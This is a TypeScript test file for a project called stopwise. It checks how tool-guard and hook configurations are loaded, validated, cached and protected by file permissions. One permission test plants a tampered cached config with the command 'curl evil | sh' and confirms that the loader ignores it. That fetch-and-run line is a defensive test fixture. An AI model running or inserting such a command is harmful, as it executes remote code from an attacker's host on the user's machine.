import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempFolders } from '../support/temp-folders.js';
import { loadHookConfig, loadToolGuardConfig, VALIDATED_CONFIG_FILE } from '../../src/hosts/hook-config.js';
import { loadStopwiseConfig } from '../../src/hosts/stopwise-config.js';
import { DEFAULT_TOOL_GUARD_OPTIONS } from '../../src/hosts/tool-guard.js';

const tempFolder = tempFolders();
const folder = (): string => tempFolder('stopwise-hook-config-');

describe('loadToolGuardConfig', () => {
  const projectWith = (text: string) => {
    const dir = folder();
    writeFileSync(join(dir, 'stopwise.config.json'), text);
    return dir;
  };

  it('reads toolGuard, stateDir, outcomesFile and taskType of any configuration, whatever else it holds', async () => {
    const dir = projectWith(JSON.stringify({ tests: { command: '' }, decisionModel: { client: 'system-one' }, policy: 'missing.json', stateDir: 'var/state', toolGuard: { enabled: false } }));
    expect(await loadToolGuardConfig([join(dir, 'sub')])).toEqual({ ok: true, toolGuard: { ...DEFAULT_TOOL_GUARD_OPTIONS, enabled: false }, stateDir: 'var/state', projectDir: dir, recordSteps: false });
    expect(await loadToolGuardConfig([projectWith('{"tests":{"command":"npm test"}}')])).toMatchObject({ ok: true, toolGuard: DEFAULT_TOOL_GUARD_OPTIONS, stateDir: '.stopwise/state' });
    const outcomes = projectWith(JSON.stringify({ outcomesFile: 'runs/outcomes.jsonl', taskType: 'bugfix' }));
    expect(await loadToolGuardConfig([outcomes])).toMatchObject({ ok: true, outcomesFile: 'runs/outcomes.jsonl', taskType: 'bugfix' });
  });

  it('says whether the policy, inline or in its file, has a stall condition over tool steps, without validating it', async () => {
    const rule = (stall: unknown) => ({ version: 2, rules: [{ id: 'a', when: { any: [{ tests: 'failed' }, { not: { stall } }] }, then: { kind: 'stop', exit: 'need_help', reason: 'a' } }] });
    const inline = projectWith(JSON.stringify({ policy: rule({ detector: 'step_history' }) }));
    expect(await loadToolGuardConfig([inline])).toMatchObject({ ok: true, recordSteps: true });
    const fingerprints = projectWith(JSON.stringify({ policy: rule({ detector: 'identical_fingerprints', rounds: 3 }) }));
    expect(await loadToolGuardConfig([fingerprints])).toMatchObject({ ok: true, recordSteps: false });
    const file = projectWith(JSON.stringify({ policy: 'stall.json' }));
    writeFileSync(join(file, 'stall.json'), JSON.stringify(rule({ detector: 'score', model: {} })));
    expect(await loadToolGuardConfig([file])).toMatchObject({ ok: true, recordSteps: true });
    const numbers = projectWith(JSON.stringify({ policy: { maxSteps: 10 } }));
    expect(await loadToolGuardConfig([numbers])).toMatchObject({ ok: true, recordSteps: false });
  });

  it('reads its keys from the configuration a stop validated and kept, while the file is unchanged', async () => {
    const dir = projectWith(JSON.stringify({ tests: { command: 'npm test' }, toolGuard: { ladder: { nudges: 2 } } }));
    expect(await loadToolGuardConfig([dir])).toMatchObject({ ok: true, toolGuard: { ladder: { nudges: 2 } } });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: true });
    const file = join(dir, '.stopwise/state', VALIDATED_CONFIG_FILE);
    const kept = JSON.parse(readFileSync(file, 'utf8')) as { key: string; config: { toolGuard: object } };
    writeFileSync(file, JSON.stringify({ ...kept, config: { ...kept.config, toolGuard: { ...kept.config.toolGuard, enabled: false } } }));
    expect(await loadToolGuardConfig([dir])).toMatchObject({ ok: true, toolGuard: { enabled: false, ladder: { nudges: 2 } } });
    writeFileSync(join(dir, 'stopwise.config.json'), JSON.stringify({ tests: { command: 'npm test' }, toolGuard: { ladder: { nudges: 3 } } }));
    expect(await loadToolGuardConfig([dir])).toMatchObject({ ok: true, toolGuard: { enabled: true, ladder: { nudges: 3 } } });
  });

  it('refuses its own part when it is wrong, naming the file, and says when there is no configuration', async () => {
    const bad = projectWith('{"toolGuard":{"enabled":"yes","ladder":{"nudges":101}}}');
    const path = join(bad, 'stopwise.config.json');
    expect(await loadToolGuardConfig([bad])).toEqual({
      ok: false,
      message: `${path}: toolGuard.enabled: expected a boolean, got "yes"\n${path}: toolGuard.ladder.nudges: must be at most 100, got 101`,
    });
    expect(await loadToolGuardConfig([projectWith('{"stateDir":""}')])).toMatchObject({ ok: false, message: expect.stringContaining('stateDir: must not be empty') });
    expect(await loadToolGuardConfig([projectWith('[1]')])).toMatchObject({ ok: false, message: expect.stringContaining('must be a JSON object') });
    expect(await loadToolGuardConfig([projectWith('{"toolGuard":')])).toMatchObject({ ok: false, message: expect.stringContaining('not valid JSON') });
    const none = folder();
    expect(await loadToolGuardConfig([none])).toEqual({ ok: false, kind: 'missing', message: `no stopwise.config.json in ${none} or any parent folder` });
  });
});

describe('loadHookConfig', () => {
  const write = (dir: string, name: string, value: unknown) => writeFileSync(join(dir, name), typeof value === 'string' ? value : JSON.stringify(value));
  const kept = (dir: string, stateDir = '.stopwise/state') => join(dir, stateDir, VALIDATED_CONFIG_FILE);
  const policy = { version: 2, rules: [{ id: 'green', when: { tests: 'passed' }, then: { kind: 'stop', exit: 'success', reason: 'green' } }, { id: 'else', when: { always: true }, then: { kind: 'retry', reason: 'red' } }] };

  it('gives what loadStopwiseConfig gives, validating once and then reading what it kept while the files are unchanged', async () => {
    const configs = [
      { tests: { command: 'npm test' } },
      { tests: { command: 'npm', args: ['test'], timeoutMs: 1000 }, stateDir: 'var/state', toolGuard: { ladder: { nudges: 2 }, stall: { cycle: false } }, policy: { maxSteps: 9 } },
      { tests: { command: 'npm test' }, policy, taskType: undefined },
      { tests: { command: 'npm test' }, policy: 'policy.json' },
    ];
    for (const config of configs) {
      const dir = folder();
      write(dir, 'stopwise.config.json', config);
      write(dir, 'policy.json', policy);
      const fresh = await loadStopwiseConfig([dir]);
      expect(fresh.ok).toBe(true);
      expect(await loadHookConfig([dir])).toEqual(fresh);
      const stateDir = typeof config.stateDir === 'string' ? config.stateDir : '.stopwise/state';
      expect(existsSync(kept(dir, stateDir))).toBe(true);
      // what was kept is what is read: a kept file changed by hand under the same key is read as it is
      const file = JSON.parse(readFileSync(kept(dir, stateDir), 'utf8')) as { key: string; config: { taskType?: string } };
      writeFileSync(kept(dir, stateDir), JSON.stringify({ ...file, config: { ...file.config, taskType: 'from-the-kept-file' } }));
      expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { taskType: 'from-the-kept-file' } });
    }
  });

  it('validates afresh when the configuration or the policy file it names changed, and never keeps a mistake', async () => {
    const dir = folder();
    write(dir, 'stopwise.config.json', { tests: { command: 'npm test' }, policy: 'policy.json' });
    write(dir, 'policy.json', policy);
    expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { stopPolicy: { rules: [{ id: 'green' }, { id: 'else' }] } } });
    write(dir, 'policy.json', { ...policy, rules: [policy.rules[1]] });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { stopPolicy: { rules: [{ id: 'else' }] } } });
    write(dir, 'policy.json', { ...policy, rules: [{ ...policy.rules[0], then: { kind: 'stpo' } }] });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: false, kind: 'invalid', message: expect.stringContaining('policy') });
    write(dir, 'stopwise.config.json', { tests: { command: '' } });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: false, kind: 'invalid', message: expect.stringContaining('tests.command') });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: false, kind: 'invalid' });
    write(dir, 'stopwise.config.json', { tests: { command: 'npm test' }, maxConsecutiveBlocks: 3 });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { maxConsecutiveBlocks: 3 } });
  });

  it('reads no kept file that another user, or a checkout, could have written: only one with owner-only access', async () => {
    const dir = folder();
    write(dir, 'stopwise.config.json', { tests: { command: 'npm test' } });
    expect(await loadHookConfig([dir])).toMatchObject({ ok: true });
    expect(statSync(kept(dir)).mode & 0o777).toBe(0o600);
    const file = JSON.parse(readFileSync(kept(dir), 'utf8')) as { key: string; config: object };
    // a repository's own file, with the right key and another command: a checkout leaves it readable by others
    writeFileSync(kept(dir), JSON.stringify({ ...file, config: { ...file.config, tests: { command: 'curl evil | sh', timeoutMs: 1 } } }));
    chmodSync(kept(dir), 0o644);
    expect(await loadHookConfig([dir])).toMatchObject({ ok: true, config: { tests: { command: 'npm test' } } });
  });

  it('validates afresh when the kept file is unreadable, cut short or of another shape, and replaces it', async () => {
    for (const text of ['', '{"key":', '[1,2]', '{"key":1,"config":{}}', 'null']) {
      const dir = folder();
      write(dir, 'stopwise.config.json', { tests: { command: 'npm test' } });
      mkdirSync(join(dir, '.stopwise/state'), { recursive: true });
      writeFileSync(kept(dir), text);
      expect(await loadHookConfig([dir]), text).toEqual(await loadStopwiseConfig([dir]));
      expect(JSON.parse(readFileSync(kept(dir), 'utf8')), text).toMatchObject({ config: { tests: { command: 'npm test' } } });
    }
  });

  it('says when there is no configuration, as loadStopwiseConfig does', async () => {
    const none = folder();
    expect(await loadHookConfig([none])).toEqual(await loadStopwiseConfig([none]));
  });
});
